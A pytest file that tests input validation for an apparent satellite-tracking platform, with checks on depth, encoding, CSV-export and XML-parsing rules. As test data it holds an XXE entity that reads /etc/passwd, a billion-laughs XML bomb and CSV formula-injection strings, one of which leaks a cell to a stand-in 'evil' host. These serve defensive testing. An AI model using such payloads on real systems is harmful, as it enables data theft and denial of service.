"""Issue 18 #1, #5 (tracks), #11, #12: validation at the boundary (helper "boundary").

Bodies are checked before parsing (size per route class, JSON depth without recursion, text without lone
surrogates or control characters: :mod:`kompas.core.limits`, applied by :mod:`kompas.api.guard`); a stored event
that cannot be served no longer breaks the listing for everyone and an administrator can remove it; /tracks is
bounded with clear 422s; every CSV Kompas writes is spreadsheet-safe; XML is parsed without entities.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from kompas.core import limits
from kompas.core.markings import Marking
from kompas.core.models import AuditEntry, EventRecord
from kompas.core.store import Store
from tests.api.conftest import world  # noqa: F401 (pytest fixture)
from tests.conftest import SAMPLE_TLE
from tests.core.conftest import db_url, engine, store  # noqa: F401 (pytest fixtures)

TLP_GREEN = "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"


def nested(levels: int) -> dict:
    """A JSON object nested ``levels`` deep (built iteratively)."""
    value: dict = {"leaf": 1}
    for _ in range(levels - 1):
        value = {"x": value}
    return value


def incident(name: str = "probe", **extra: object) -> dict:
    return {"type": "incident", "spec_version": "2.1", "id": "incident--0f6d5c0e-3a6b-4c8e-9f0a-2b1c3d4e5f60",
            "created": "2026-05-02T00:00:00.000Z", "modified": "2026-05-02T00:00:00.000Z", "name": name,
            "x_kompas_kind": "rpo", "x_kompas_norad_ids": [40258], "object_marking_refs": [TLP_GREEN], **extra}


def bundle(*objects: dict) -> dict:
    return {"type": "bundle", "id": "bundle--6a1d2b30-4e2c-4c3f-9e7e-2c8f5a4f0b11", "objects": list(objects)}


# --- #1: one import must not break /events for everyone -----------------------------------------------------------


def test_a_900_deep_detail_is_refused_and_the_listing_still_answers(world: dict) -> None:  # noqa: F811
    client, ann = world["client"], world["ann"]
    ok = client.post("/api/v1/events/stix", headers=ann, content=json.dumps(bundle(incident())))
    assert ok.status_code == 201 and len(ok.json()["imported"]) == 1
    deep = bundle(incident("deep", id="incident--1f6d5c0e-3a6b-4c8e-9f0a-2b1c3d4e5f60",
                           x_kompas_detail=nested(900)))
    response = client.post("/api/v1/events/stix", headers=ann, content=json.dumps(deep))
    assert response.status_code == 422 and "nested deeper than" in response.json()["detail"]
    listing = client.get("/api/v1/events", headers=ann)
    assert listing.status_code == 200 and [e["title"] for e in listing.json()["items"]] == ["probe"]


def test_a_detail_just_over_the_envelope_depth_is_rejected_item_by_item(world: dict) -> None:  # noqa: F811
    client, ann = world["client"], world["ann"]
    deep = bundle(incident("deep", x_kompas_detail=nested(20)))
    out = client.post("/api/v1/events/stix", headers=ann, content=json.dumps(deep)).json()
    assert out["imported"] == [] and "nested deeper than 16" in out["rejected"][0]["reason"]


def _store_unservable(platform: Store) -> str:
    """An event with a 900-deep detail written past the envelope's rules (as rows stored before them were)."""
    from kompas.core.envelope import legacy_space
    from kompas.core.store import events as platform_events

    envelope = legacy_space("manoeuvre", "2026-05-01T12:00:00.000000000Z", [25544], "stored before the limits",
                            None, "test")
    envelope.payload = nested(900)
    with platform.session(None) as s:
        platform_events.add(s, envelope, platform.marking_id(s, Marking.build("UNCLASSIFIED", "GREEN", None, [],
                                                                            "NL-NSO")))
    return envelope.id


def test_a_stored_event_that_cannot_be_served_does_not_break_the_listing(world: dict) -> None:  # noqa: F811
    platform, client, ann = world["store"], world["client"], world["ann"]
    platform.add_event("manoeuvre", "2026-05-01T13:00:00.000000000Z", [25544], "good one",
                    Marking.build("UNCLASSIFIED", "GREEN", None, [], "NL-NSO"), {"dv_m_s": 0.5})
    bad = _store_unservable(platform)
    for path in ("/api/v1/events", "/api/v1/events?domain=space", "/api/v1/events?norad_id=25544",
                 "/api/v1/events/stix"):
        assert client.get(path, headers=ann).status_code == 200, path
    items = {e["title"]: e for e in client.get("/api/v1/events", headers=ann).json()["items"]}
    assert items["good one"]["detail"] == {"dv_m_s": 0.5}
    assert "cannot be shown" in items["stored before the limits"]["detail"]["unavailable"]
    one = client.get(f"/api/v1/events/{bad}", headers=ann)
    assert one.status_code == 200 and "remove-event" in one.json()["detail"]["unavailable"]


def test_an_administrator_removes_an_event_with_an_audit_row(platform_home) -> None:
    from kompas.cli import app
    from kompas.core.db import make_engine

    platform_home("NL-NSO", "NL", [("ann", "SECRET", [])])
    runner = CliRunner()
    platform = Store(make_engine(None))
    bad = _store_unservable(platform)
    with platform.engine.connect() as connection:
        before = connection.scalar(select(func.count()).select_from(AuditEntry))
    done = runner.invoke(app, ["admin", "remove-event", bad])
    assert done.exit_code == 0, done.output
    with platform.engine.connect() as connection:
        assert connection.scalar(select(func.count()).select_from(EventRecord).where(EventRecord.id == bad)) == 0
        row = connection.execute(select(AuditEntry.action, AuditEntry.target).order_by(AuditEntry.seq.desc())
                                 .limit(1)).one()
        assert connection.scalar(select(func.count()).select_from(AuditEntry)) == before + 1
    assert tuple(row) == ("remove-event", bad)
    again = runner.invoke(app, ["admin", "remove-event", bad])
    assert again.exit_code == 2 and "no event" in again.output


# --- #11: malformed input answers 4xx, never 500 or a reset -------------------------------------------------------


def test_a_100k_deep_stix_bundle_is_refused_without_parsing(world: dict) -> None:  # noqa: F811
    client, ann = world["client"], world["ann"]
    body = b'{"type": "bundle", "objects": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for path in ("/api/v1/events/stix", "/api/v1/fimi/incidents/stix", "/api/v1/fimi/incidents"):
        response = client.post(path, headers=ann, content=body)
        assert response.status_code == 422 and "nested deeper than" in response.json()["detail"], path


@pytest.mark.parametrize("path,body", [
    ("/api/v1/events/stix", json.dumps(bundle(incident("GEO \ud800 probe")))),
    ("/api/v1/fimi/incidents/stix", json.dumps(bundle(incident("GEO \udc00 probe")))),
    ("/api/v1/fimi/incidents", json.dumps({"incidents": [{"title": "lone \ud83d", "first_seen": "2026-05-01"}]})),
])
def test_lone_surrogates_are_refused(world: dict, path: str, body: str) -> None:  # noqa: F811
    response = world["client"].post(path, headers=world["ann"], content=body)
    assert response.status_code == 422, response.text
    assert "surrogate" in response.json()["detail"]


def test_a_control_character_in_an_event_title_is_a_rejection(world: dict) -> None:  # noqa: F811
    # free text in a body may hold control characters (a schema-valid document); a title or a name may not
    out = world["client"].post("/api/v1/events/stix", headers=world["ann"],
                               content=json.dumps(bundle(incident("bell \x07 \x1b[31m")))).json()
    assert out["imported"] == [] and "control character" in out["rejected"][0]["reason"]
    assert limits.json_text_problem(json.dumps({"t": "a\x01"}), controls=True) is not None
    assert limits.json_text_problem(json.dumps({"t": "a\x01"})) is None


def test_deep_json_inside_a_contributed_text_is_a_rejection_not_a_500(world: dict) -> None:  # noqa: F811
    content = "[" + "[" * 100_000 + "]" * 100_000 + "]"  # a JSON string in the body: the body itself is flat
    response = world["client"].post("/api/v1/contributions", headers=world["ann"], json={
        "kind": "elements", "format": "omm-json", "content": content,
        "marking": {"classification": "UNCLASSIFIED", "tlp": "GREEN"}})
    assert response.status_code in (201, 422), response.text
    assert "nested" in response.text


def test_the_cli_readers_refuse_deep_json(platform_home, tmp_path) -> None:
    from kompas.cli import app

    platform_home("NL-NSO", "NL", [("ann", "SECRET", [])])
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    runner = CliRunner()
    for args in (["fimi", "ingest", str(deep), "--user", "ann", "--format", "json"],
                 ["fimi", "ingest", str(deep), "--user", "ann", "--format", "stix"],
                 ["admin", "import-events", str(deep), "--org", "NL-NSO"]):
        done = runner.invoke(app, args)
        assert done.exit_code == 2 and "nested deeper than" in done.output, (args, done.output)


def test_surrogate_pairs_and_escaped_backslashes_are_fine() -> None:
    assert limits.json_text_problem(json.dumps({"t": "\U0001F600 \\ud800 tab\there"}), controls=True) is None
    assert limits.json_text_problem(json.dumps({"t": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["})) is None
    assert limits.json_depth(b'{"a": [1, {"b": "]]]]"}]}') == 3
    assert limits.json_text_problem(b'"\xff"') == "not UTF-8 text (byte 1)"


def test_an_error_answer_holding_a_lone_surrogate_is_still_written() -> None:
    from kompas.api.errors import ProblemResponse

    answer = ProblemResponse({"detail": "bad name: GEO \ud800 probe"}, status_code=422)
    assert json.loads(answer.body)["detail"] == "bad name: GEO \ud800 probe"


def test_a_small_request_has_a_small_body_limit(world: dict) -> None:  # noqa: F811
    response = world["client"].post("/api/v1/markings/combine", headers=world["ann"],
                                     content=b'{"markings": [' + b" " * (limits.SMALL_BODY_BYTES + 1) + b"]}")
    assert response.status_code == 413 and f"over {limits.SMALL_BODY_BYTES} bytes" in response.json()["detail"]


# --- #5 (tracks) and #11 (far-future start) -----------------------------------------------------------------------


@pytest.fixture
def elements(world: dict) -> dict:  # noqa: F811
    platform = world["store"]
    calsphere = "\n".join(SAMPLE_TLE.read_text().splitlines()[:3]) + "\n"  # NORAD 900 only: fast
    platform.contribute_elements(platform.account("ann"), calsphere, "tle",
                              Marking.build("UNCLASSIFIED", "GREEN", None, [], "NL-NSO"), "test")
    return world


def test_tracks_far_in_the_future_answer_a_clear_422(elements: dict) -> None:
    response = elements["client"].get("/api/v1/tracks?ids=900&start=2199-01-01T00:00:00Z", headers=elements["ann"])
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert "start" in detail and "days" in detail and "erfa" not in detail.lower() and "dubious" not in detail


def test_tracks_are_bounded_per_request(elements: dict) -> None:
    from kompas.core import picture

    client, ann = elements["client"], elements["ann"]
    ids = ",".join(str(n) for n in range(1, picture.MAX_TRACK_OBJECTS + 2))
    response = client.get(f"/api/v1/tracks?ids={ids}", headers=ann)
    assert response.status_code == 422 and f"at most {picture.MAX_TRACK_OBJECTS} objects" in response.json()["detail"]
    response = client.get("/api/v1/tracks?ids=900&minutes=1440&step_s=1", headers=ann)
    assert response.status_code == 422 and f"at most {picture.MAX_POINTS} times" in response.json()["detail"]
    ids = ",".join(str(n) for n in range(1, 300))
    response = client.get(f"/api/v1/tracks?ids={ids}&minutes=1440&step_s=60", headers=ann)
    assert response.status_code == 422 and f"{picture.MAX_TRACK_VALUES}" in response.json()["detail"]
    fine = client.get("/api/v1/tracks?ids=900&minutes=60&step_s=60", headers=ann)
    assert fine.status_code == 200 and len(fine.json()["times_utc"]) == 61 and fine.json()["tracks"]


# --- #12: CSV formula injection -----------------------------------------------------------------------------------


def test_csv_cells_are_spreadsheet_safe() -> None:
    from kompas.csvsafe import safe_cell

    assert safe_cell('=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
    assert [safe_cell(v) for v in ("+1+2", "@SUM(A1)", "\tx", "\rx", "-2+3")] == \
        ["'+1+2", "'@SUM(A1)", "'\tx", "'\rx", "'-2+3"]
    assert [safe_cell(v) for v in (-1.5, "-1.5", "-3", "1e-3", "ISS (ZARYA)", 7, "")] == \
        [-1.5, "-1.5", "-3", "1e-3", "ISS (ZARYA)", 7, ""]
    # after a ';' (the separator in many EU locales) or a line break, a formula is neutralised too (review)
    assert [safe_cell(v) for v in ("a;=HYPERLINK(1)", "a\n@SUM(A1)", "x;y", "1;2")] == \
        ["a;'=HYPERLINK(1)", "a\n'@SUM(A1)", "x;y", "1;2"]


def test_the_conjunction_csv_quotes_separators_and_line_breaks() -> None:
    from kompas.services.space import csv_text

    assert csv_text("a;=X") == '"a;\'=X"' and csv_text("a\nb") == '"a\nb"' and csv_text("ISS (ZARYA)") == "ISS (ZARYA)"


def test_observatory_stress_neutralises_a_formula_in_an_input_name(tmp_path) -> None:
    from kompas.cli import app

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    supply = tmp_path / "supply.csv"
    with supply.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["input_id", "input_name", "input_kind", "provider", "provider_kind", "country", "share_pct",
                         "year", "source", "goes_into", "is_type_of"])
        writer.writerow(["gallium", evil, "material", "China", "country", "CHN", "98", "2025", "test", "chips", ""])
        writer.writerow(["gallium", evil, "material", "Japan", "country", "JPN", "2", "2025", "test", "chips", ""])
        writer.writerow(["chips", "-Chips", "technology", "Netherlands", "country", "NLD", "100", "2025", "test", "",
                         ""])
    out = tmp_path / "stress.csv"
    done = CliRunner().invoke(app, ["observatory", "stress", "--data", str(supply), "--remove", "CHN",
                                    "--out", str(out)])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(out.read_text())))
    gallium = next(row for row in rows[1:] if row[0] == "gallium")
    assert gallium[1] == "'" + evil and float(gallium[2]) > 0


# --- XML: bombs and external entities -----------------------------------------------------------------------------

BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<ndm><omm><header><ORIGINATOR>&lol3;</ORIGINATOR></header></omm></ndm>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE cdm [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<cdm><header><ORIGINATOR>&secret;</ORIGINATOR></header></cdm>"""


def test_xml_bombs_and_external_entities_are_refused() -> None:
    from kompas.space import cdm, omm

    for text in (BOMB, XXE):
        with pytest.raises(limits.LimitError):
            limits.parse_xml(text)
    records, rejected = omm.parse_xml(BOMB, "bomb.xml")
    assert records == [] and "DTD or entities" in str(rejected[0])
    with pytest.raises(ValueError, match="DTD or entities"):
        cdm.parse_xml(XXE, "xxe.xml")
    deep = "<a>" * 100_000 + "</a>" * 100_000
    with pytest.raises(limits.LimitError, match="nested deeper"):
        limits.parse_xml(deep)
    with pytest.raises(ValueError, match="nested deeper"):
        cdm.parse_xml(f"<cdm><body>{deep}</body></cdm>", "deep.xml")
    records, rejected = omm.parse_xml(f"<ndm><omm><body>{deep}</body></omm></ndm>", "deep.xml")
    assert records == [] and "nested deeper" in str(rejected[0])


def test_xml_bomb_in_a_contribution_is_a_clear_rejection(world: dict) -> None:  # noqa: F811
    response = world["client"].post("/api/v1/contributions", headers=world["ann"], json={
        "kind": "elements", "format": "omm-xml", "content": BOMB,
        "marking": {"classification": "UNCLASSIFIED", "tlp": "GREEN"}})
    assert response.status_code in (201, 422), response.text
    assert "DTD or entities" in response.text and "lollol" not in response.text


# --- #15: no server text into innerHTML unescaped -----------------------------------------------------------------


def test_the_web_pages_escape_error_messages_in_html() -> None:
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    main = (root / "web" / "src" / "main.js").read_text()
    assert "Could not load this page: ${esc(error.message)}" in main
    sources = "\n".join(p.read_text() for p in (root / "web" / "src").rglob("*.js"))
    # a message from the server or the browser goes into HTML only through esc() (textContent needs none)
    for line in sources.splitlines():
        if "innerHTML" in line:
            assert not re.search(r"\$\{\s*[\w.]*message\s*\}", line), line
    bundles = list((root / "src" / "kompas" / "web" / "static" / "assets").glob("index-*.js"))
    assert len(bundles) == 1, "exactly one built bundle ships"
    shipped = re.search(r"Could not load this page: \$\{(\w+)\((\w+)\.message\)\}", bundles[0].read_text())
    assert shipped is not None, "the shipped bundle is built from web/src (cd web && npm run build)"


@pytest.mark.parametrize("content_type", ["application/json", "multipart/form-data; boundary=x", "text/plain"])
def test_a_utf16_body_or_a_declared_multipart_one_cannot_slip_past_the_guard(content_type: str) -> None:
    """Review of issue 18: ASCII JSON in UTF-16-LE is also valid UTF-8 (a NUL after each character), json.loads
    decodes it anyway, and an escaped quote then hid the nesting from the byte scan; and a body declared multipart
    skipped the scan although the STIX routes parse any body as JSON. Both are refused before any route runs."""
    from fastapi.testclient import TestClient

    from kompas.api.app import create_app
    from kompas.core.db import make_engine

    memory = make_engine("sqlite://")  # never reached: the guard answers before authentication and any route
    deep = '{"a": "\\"' + "[" * 900 + "]" * 900 + '"}'
    title = '{"type": "bundle", "id": "bundle--1", "objects": [{"type": "incident", "name": "x\\ud800"}]}'
    client = TestClient(create_app(memory), raise_server_exceptions=False)
    for body in (deep.encode("utf-16-le"), title.encode("utf-16-le"), ("[" * 5000 + "]" * 5000).encode()):
        for path in ("/api/v1/events/stix", "/api/v1/fimi/incidents/stix"):
            answer = client.post(path, content=body, headers={"content-type": content_type,
                                                             "authorization": "Bearer nobody"})
            assert answer.status_code == 422, (path, content_type, answer.status_code, answer.text[:200])
